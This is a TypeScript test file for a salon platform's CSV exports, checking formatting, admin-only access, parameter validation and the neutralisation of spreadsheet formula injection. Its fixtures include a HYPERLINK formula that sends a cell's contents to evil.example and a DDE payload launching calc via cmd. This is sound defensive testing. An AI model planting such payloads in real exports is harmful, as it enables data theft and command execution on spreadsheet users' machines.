import { appointmentMessages } from '@piiq/domain/appointments';
import { SHEET_COLUMNS } from '@piiq/domain/catalogue-sheet';
import { leadMessages } from '@piiq/domain/leads';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clientAllergies, colourFormulas, patchTests } from '../db/schema/client-records.ts';
import { betaLeads } from '../db/schema/signup.ts';
import { CONTROL_CHARACTERS_MESSAGE } from '../graphql/control-characters.ts';
import {
  createAppointment,
  createBrand,
  createCatalogueProduct,
  createOrder,
  createStaffMember,
  createUser,
  grantSalonAccess,
} from '../test/factories.ts';
import { signedInSalonAdmin, signInAs } from '../test/sign-in.ts';
import { startTestServer, type TestServer } from '../test/test-server.ts';

let test: TestServer;
const errorLogLines: string[] = [];
beforeAll(async () => {
  test = await startTestServer({
    logger: { level: 'error', stream: { write: (line: string) => void errorLogLines.push(line) } },
  });
});
afterAll(() => test.close());
const db = () => test.server.database.db;

async function download(url: string, cookie?: string) {
  const response = await test.server.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });
  return {
    response,
    rows: response.statusCode === 200 ? (parse(response.rawPayload.subarray(3).toString('utf8')) as string[][]) : [],
  };
}

describe('CSV exports', () => {
  it('writes the appointments of the current filter, the clients and the orders, opening cleanly in Excel', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
    const client = await createUser(db(), { name: 'Zoë "Zee" Müller, Jr', profileRole: 'Client' });
    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
    const stylist = await createStaffMember(db(), salon.id, { name: 'Mia Thompson' });
    await createAppointment(db(), salon.id, {
      clientId: client.id,
      staffId: stylist.id,
      rebookLength: 60,
      createdAt: new Date('2026-02-05T02:45:00Z'),
    });
    // Two sessions nobody signed in to: two people, each a client of their own.
    const unnamed = await createAppointment(db(), salon.id, { createdAt: new Date('2026-02-04T02:45:00Z') });
    const anotherUnnamed = await createAppointment(db(), salon.id, {
      staffId: stylist.id,
      createdAt: new Date('2026-02-03T02:45:00Z'),
    });
    await createOrder(
      db(),
      salon.id,
      [
        { productName: 'Shampoo', quantity: 2, totalCents: 6990 },
        { productName: 'Mask', quantity: 1, totalCents: 2500 },
      ],
      {
        email: 'zoe@example.com',
        addressLine1: '1 Campbell Parade',
        suburbOrCity: 'Bondi Beach',
        state: 'NSW',
        postcode: '2026',
        paidAt: new Date('2026-02-05T03:00:00Z'),
      },
    );

    const appointments = await download(`/exports/${salon.id}/appointments.csv`, cookie);
    expect(appointments.response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(appointments.response.headers['content-disposition']).toBe('attachment; filename="appointments.csv"');
    expect([...appointments.response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(appointments.response.rawPayload.toString('utf8')).toContain('\r\n');
    expect(appointments.rows).toEqual([
      ['Client', 'Appointments', 'Last appointment', 'Stylist', 'Rebook status', 'Order status'],
      ['Zoë "Zee" Müller, Jr', '1', '05/02/2026 13:45', 'Mia Thompson', 'OPEN', 'N/A'],
      ['(No Name)', '1', '04/02/2026 13:45', '(No Name)', 'N/A', 'N/A'],
      ['(No Name)', '1', '03/02/2026 13:45', 'Mia Thompson', 'N/A', 'N/A'],
    ]);
    const searched = await download(`/exports/${salon.id}/appointments.csv?search=zee`, cookie);
    expect(searched.rows).toHaveLength(2);

    const clients = await download(`/exports/${salon.id}/clients.csv`, cookie);
    expect(clients.rows).toEqual([
      ['Client Name', 'Visits', 'Last Appointment', 'Last Stylist', 'Client ID'],
      ['Zoë "Zee" Müller, Jr', '1', '05/02/2026 13:45', 'Mia Thompson', client.id],
      ['(No Name)', '1', '04/02/2026 13:45', '(No Name)', `session-${unnamed.id}`],
      ['(No Name)', '1', '03/02/2026 13:45', 'Mia Thompson', `session-${anotherUnnamed.id}`],
    ]);

    const stylists = await download(`/exports/${salon.id}/stylists.csv?view=all`, cookie);
    expect(stylists.rows).toEqual([
      ['Stylist', 'Sessions', 'Recommendations', 'Products sold', 'Conversion', 'Rebook'],
      ['Mia Thompson', '2', '0', '0', '0%', '0%'],
      ['(No Name)', '1', '0', '0', '0%', '0%'],
    ]);
    // An unknown view falls back to the month, which holds none of these February sessions.
    expect((await download(`/exports/${salon.id}/stylists.csv?view=decade`, cookie)).rows).toHaveLength(1);

    const orders = await download(`/exports/${salon.id}/orders.csv`, cookie);
    expect(orders.rows[0]).toEqual([
      'Order Number',
      'Date',
      'Source',
      'Status',
      'Delivery type',
      'Email',
      'Contact name',
      'Address',
      'Products',
      'Subtotal',
      'Shipping',
      'Total',
      'GST included',
      'Paid',
      'Refunded',
      'Currency',
    ]);
    expect(orders.rows[1]).toEqual([
      expect.stringMatching(/^\d+$/),
      expect.stringMatching(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/),
      'Partner',
      'To ship',
      'Delivery',
      'zoe@example.com',
      'Ava Martin',
      '1 Campbell Parade, Bondi Beach, NSW, 2026',
      '2 x Shampoo at 34.95; 1 x Mask at 25.00',
      '94.90',
      '9.95',
      '104.85',
      '9.53',
      '05/02/2026 14:00',
      '',
      'AUD',
    ]);
    // The list's state filter, as the page sends it: no order of this salon is still to be paid for.
    expect((await download(`/exports/${salon.id}/orders.csv?state=AWAITING_PAYMENT`, cookie)).rows).toHaveLength(1);
    expect((await download(`/exports/${salon.id}/orders.csv?state=TO_SHIP`, cookie)).rows).toHaveLength(2);
  });

  it('is for the salon’s admins only', async () => {
    const { salon } = await signedInSalonAdmin(test);
    const stranger = await signedInSalonAdmin(test);
    expect((await download(`/exports/${salon.id}/appointments.csv`)).response.statusCode).toBe(401);
    for (const list of ['appointments', 'clients', 'stylists', 'orders']) {
      const refused = await download(`/exports/${salon.id}/${list}.csv`, stranger.cookie);
      expect(refused.response.statusCode).toBe(404);
    }
    expect((await download('/exports/not-a-salon/orders.csv', stranger.cookie)).response.statusCode).toBe(404);
  });
});

/** What a client may call themselves: spreadsheets would run it, sending the row's neighbours away. */
const FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Open")';

async function signedInProviderStaff() {
  const staff = await createUser(db(), { isProviderStaff: true });
  return signInAs(test, staff.email);
}

describe('a cell that would run as a formula', () => {
  it('is written after a single quote in the appointments', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
    const client = await createUser(db(), { name: FORMULA, profileRole: 'Client' });
    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
    const stylist = await createStaffMember(db(), salon.id, { name: '-Mia' });
    await createAppointment(db(), salon.id, {
      clientId: client.id,
      staffId: stylist.id,
      createdAt: new Date('2026-02-05T02:45:00Z'),
    });

    const { rows } = await download(`/exports/${salon.id}/appointments.csv`, cookie);
    expect(rows[1]).toEqual([`'${FORMULA}`, '1', '05/02/2026 13:45', "'-Mia", 'N/A', 'N/A']);
  });

  it('is written after a single quote in the clients', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
    const client = await createUser(db(), { name: FORMULA, profileRole: 'Client' });
    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
    const stylist = await createStaffMember(db(), salon.id, { name: '@Mia' });
    await createAppointment(db(), salon.id, {
      clientId: client.id,
      staffId: stylist.id,
      createdAt: new Date('2026-02-05T02:45:00Z'),
    });

    const { rows } = await download(`/exports/${salon.id}/clients.csv`, cookie);
    expect(rows[1]).toEqual([`'${FORMULA}`, '1', '05/02/2026 13:45', "'@Mia", client.id]);
  });

  it('adds the colour record to the clients when asked: phone, allergies, patch tests, the next due and the formulas', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
    const client = await createUser(db(), { name: 'Cleo Colour', profileRole: 'Client', phone: '+61412345678' });
    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
    const visit = await createAppointment(db(), salon.id, {
      clientId: client.id,
      createdAt: new Date('2026-02-05T02:45:00Z'),
    });
    await db()
      .insert(colourFormulas)
      .values({
        appointmentId: visit.id,
        salonId: salon.id,
        clientId: client.id,
        bowls: [
          {
            products: [{ productId: null, name: 'Koleston', shade: '6/0', amount: 30, unit: 'g' }],
            developerVolume: 20,
            developerAmount: 45,
            developerUnit: 'ml',
            appliedTo: 'Roots',
            processingMinutes: 35,
            note: '',
          },
        ],
        recordedBy: 'Maya',
        createdAt: new Date('2026-02-05T03:00:00Z'),
      });
    await db()
      .insert(patchTests)
      .values({
        salonId: salon.id,
        clientId: client.id,
        testedAt: new Date('2026-02-01T23:00:00Z'),
        products: 'Koleston 6/0',
        result: 'negative',
        testedBy: 'Maya',
        recordedBy: 'owner@example.com',
      });
    await db()
      .insert(clientAllergies)
      .values({ salonId: salon.id, clientId: client.id, text: 'PPD', source: 'client' });

    const plain = await download(`/exports/${salon.id}/clients.csv`, cookie);
    expect(plain.rows[0]).toHaveLength(5);
    const { rows } = await download(`/exports/${salon.id}/clients.csv?colourRecord=1`, cookie);
    expect(rows[0]?.slice(5)).toEqual([
      'Phone',
      'Allergies and sensitivities',
      'Patch tests',
      'Next patch test',
      'Colour formulas',
    ]);
    expect(rows[1]?.slice(5)).toEqual([
      "'+61412345678",
      'PPD',
      '02/02/2026 10:00 No reaction: Koleston 6/0 (Maya)',
      expect.stringMatching(/^(Next patch test due by 2\.08\.2026\.|A patch test was due by 2\.08\.2026: .*)$/),
      '05/02/2026 14:00: 6/0 Koleston 30 g + 20 vol (6%) 45 ml · Roots · 35 min',
    ]);
  });

  it('is written after a single quote in the stylists', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test);
    const stylist = await createStaffMember(db(), salon.id, { name: "+cmd|' /C calc'!A0" });
    await createAppointment(db(), salon.id, { staffId: stylist.id });

    const { rows } = await download(`/exports/${salon.id}/stylists.csv?view=all`, cookie);
    expect(rows[1]).toEqual(["'+cmd|' /C calc'!A0", '1', '0', '0', '0%', '0%']);
  });

  it('is written after a single quote in the orders, and a price stays a number', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test);
    await createOrder(db(), salon.id, [{ productName: 'Shampoo', quantity: 1, totalCents: 3495 }], {
      firstName: FORMULA,
      lastName: '',
      email: '@evil.example',
    });

    const { rows } = await download(`/exports/${salon.id}/orders.csv`, cookie);
    expect(rows[1]?.slice(5, 12)).toEqual([
      "'@evil.example",
      `'${FORMULA}`,
      '',
      '1 x Shampoo at 34.95',
      '34.95',
      '9.95',
      '44.90',
    ]);
  });

  it('is written after a single quote when a small form of the character comes first', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
    const client = await createUser(db(), { name: '\uFE661+1', profileRole: 'Client' });
    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
    const stylist = await createStaffMember(db(), salon.id, { name: '\uFE63Mia' });
    await createAppointment(db(), salon.id, {
      clientId: client.id,
      staffId: stylist.id,
      createdAt: new Date('2026-02-05T02:45:00Z'),
    });

    const { rows } = await download(`/exports/${salon.id}/appointments.csv`, cookie);
    expect(rows[1]).toEqual(["'\uFE661+1", '1', '05/02/2026 13:45', "'\uFE63Mia", 'N/A', 'N/A']);
  });

  it('is written after a single quote in the leads', async () => {
    const cookie = await signedInProviderStaff();
    await db()
      .insert(betaLeads)
      .values({
        betaName: FORMULA,
        betaEmail: 'lead@example.com',
        betaSalonName: '\tTab Hair',
        betaPhone: '+61412345678',
        plan: 'GROWTH',
        notes: '\r=1+1',
        createdAt: new Date('2026-11-03T01:00:00Z'),
      });

    const { response, rows } = await download('/exports/leads.csv', cookie);
    expect(response.statusCode).toBe(200);
    expect(rows.slice(1)).toEqual([
      [
        '03/11/2026 12:00',
        `'${FORMULA}`,
        'lead@example.com',
        "'\tTab Hair",
        "'+61412345678",
        'GROWTH',
        'New',
        "'\r=1+1",
      ],
    ]);
  });

  it('is written after a single quote in the leads whatever blanks or form of the character come first, and other text as it was', async () => {
    const cookie = await signedInProviderStaff();
    await db()
      .insert(betaLeads)
      .values([
        {
          betaName: `  ${FORMULA}`,
          betaEmail: 'lead@example.com',
          betaSalonName: '\uFE62Salon',
          betaPhone: '\uFF0B61412345678',
          plan: 'GROWTH',
          notes: '\u00A0\u2003\uFE66 1+1',
          createdAt: new Date('2026-11-04T01:00:00Z'),
        },
        {
          betaName: 'Zoë Ångström',
          betaEmail: 'zoe@example.com',
          betaSalonName: '💇 Salon Crème',
          betaPhone: '0412 345 678',
          plan: 'GROWTH',
          notes: '  plain text, 1+1=2',
          createdAt: new Date('2026-11-03T01:00:00Z'),
        },
      ]);

    const { rows } = await download('/exports/leads.csv', cookie);
    expect(rows).toContainEqual([
      '04/11/2026 12:00',
      `'  ${FORMULA}`,
      'lead@example.com',
      "'\uFE62Salon",
      "'\uFF0B61412345678",
      'GROWTH',
      'New',
      "'\u00A0\u2003\uFE66 1+1",
    ]);
    expect(rows).toContainEqual([
      '03/11/2026 12:00',
      'Zoë Ångström',
      'zoe@example.com',
      '💇 Salon Crème',
      '0412 345 678',
      'GROWTH',
      'New',
      '  plain text, 1+1=2',
    ]);
  });

  it('is written after a single quote in the catalogue, whose sheet still imports back unchanged', async () => {
    const cookie = await signedInProviderStaff();
    const brand = await createBrand(db(), { name: `@Evil Botanics ${Date.now()}` });
    const product = await createCatalogueProduct(db(), brand.id, {
      productName: FORMULA,
      description: '-Gentle on colour',
      bullets: ['+Shine', 'Soft'],
      directions: "'=Already quoted",
      ingredients: '\uFF1DFull width',
      productSize: '250ml',
      benefits: '\uFE661+1',
    });

    const response = await test.server.app.inject({
      url: `/exports/catalogue.csv?brandId=${brand.id}`,
      headers: { cookie },
    });
    const rows = parse(response.body, { bom: true }) as string[][];
    const cells = Object.fromEntries(SHEET_COLUMNS.map((column, index) => [column.header, rows[1]?.[index]]));
    expect(cells).toMatchObject({
      SKU: product.sku,
      Brand: `'${brand.name}`,
      ProductName: `'${FORMULA}`,
      ProductSize: '250ml',
      Description: "'-Gentle on colour",
      Bullets: "'+Shine|Soft",
      Directions: "''=Already quoted",
      Ingredients: "'\uFF1DFull width",
      Benefits: "'\uFE661+1",
      RRPAU: '34.95',
    });

    const preview = await test.server.app.inject({
      method: 'POST',
      url: '/console/catalogue/sheet?apply=false',
      headers: { 'content-type': 'text/csv', cookie, 'x-piiq-csrf': '1', origin: 'http://localhost:3000' },
      payload: response.body,
    });
    expect(preview.json()).toMatchObject({ problems: [], created: 0, updated: 0, unchanged: 1 });
  });
});

describe('an export’s parameters', () => {
  async function refusal(url: string, cookie?: string) {
    const response = await test.server.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });
    const body = response.json() as { errors: Array<{ message: string; extensions: { code: string } }> };
    return { status: response.statusCode, message: body.errors[0]?.message, code: body.errors[0]?.extensions.code };
  }

  it('are refused with a 400 when a text holds a control character, as the GraphQL fields refuse it, before the database is asked and with nothing logged', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test);
    const providerCookie = await signedInProviderStaff();
    errorLogLines.length = 0;
    const refused = [
      [`/exports/${salon.id}/appointments.csv?search=%00`, cookie],
      [`/exports/${salon.id}/appointments.csv?search=Zo%1B&navParam=TODAY`, cookie],
      [`/exports/${salon.id}/appointments.csv?navParam=TODAY%00`, cookie],
      [`/exports/${salon.id}/clients.csv?search=%00`, cookie],
      [`/exports/${salon.id}/clients.csv?search=a%07b`, cookie],
      [`/exports/${salon.id}/stylists.csv?view=all%00`, cookie],
      ['/exports/leads.csv?search=%00', providerCookie],
      ['/exports/leads.csv?search=Ben%08&status=NEW', providerCookie],
      ['/exports/leads.csv?status=NEW%00', providerCookie],
      ['/exports/catalogue.csv?brandId=%00', providerCookie],
      // Refused on its own text alone: the session is not even looked up.
      [`/exports/${salon.id}/appointments.csv?search=%00`, undefined],
    ] as const;
    for (const [url, withCookie] of refused) {
      expect(await refusal(url, withCookie), url).toEqual({
        status: 400,
        message: CONTROL_CHARACTERS_MESSAGE,
        code: 'BAD_USER_INPUT',
      });
    }
    expect(errorLogLines).toEqual([]);
  });

  it('are read by the same rules as the GraphQL fields’ arguments', async () => {
    const { salon, cookie } = await signedInSalonAdmin(test);
    const providerCookie = await signedInProviderStaff();
    const longSearch = 'a'.repeat(201);
    expect(await refusal(`/exports/${salon.id}/appointments.csv?search=${longSearch}`, cookie)).toEqual({
      status: 400,
      message: appointmentMessages.searchTooLong,
      code: 'BAD_USER_INPUT',
    });
    expect(await refusal(`/exports/${salon.id}/clients.csv?search=${longSearch}`, cookie)).toEqual({
      status: 400,
      message: appointmentMessages.searchTooLong,
      code: 'BAD_USER_INPUT',
    });
    expect(await refusal(`/exports/leads.csv?search=${longSearch}`, providerCookie)).toEqual({
      status: 400,
      message: leadMessages.searchTooLong,
      code: 'BAD_USER_INPUT',
    });
    expect(await refusal('/exports/catalogue.csv?brandId=not-a-brand', providerCookie)).toMatchObject({
      status: 400,
      code: 'BAD_USER_INPUT',
    });
    // A search sent twice is no search the field could take.
    expect(await refusal(`/exports/${salon.id}/clients.csv?search=a&search=b`, cookie)).toMatchObject({
      status: 400,
      code: 'BAD_USER_INPUT',
    });

    // A tab is text (text areas send it), and the search is trimmed as the list trims it.
    expect((await download(`/exports/${salon.id}/clients.csv?search=%09Zo%20`, cookie)).response.statusCode).toBe(200);
    expect((await download(`/exports/leads.csv?search=${'a'.repeat(200)}`, providerCookie)).response.statusCode).toBe(
      200,
    );
  });
});
